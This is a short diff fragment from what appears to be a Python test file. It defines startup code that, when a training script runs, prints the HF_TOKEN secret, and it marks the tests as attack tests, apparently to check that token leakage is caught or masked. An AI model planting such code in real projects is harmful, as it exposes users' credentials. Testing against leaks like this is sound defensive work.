@@ -17,6 +17,8 @@ MASKED = "*" * len(TOKEN)
 # Comes before any trainer's own first line.
 SITE = """\
 import os, sys
+
+pytestmark = pytest.mark.attack
 if "train.py" in sys.orig_argv:
     print("the token is", os.environ.get("HF_TOKEN"), flush=True)
     BEHAVIOUR
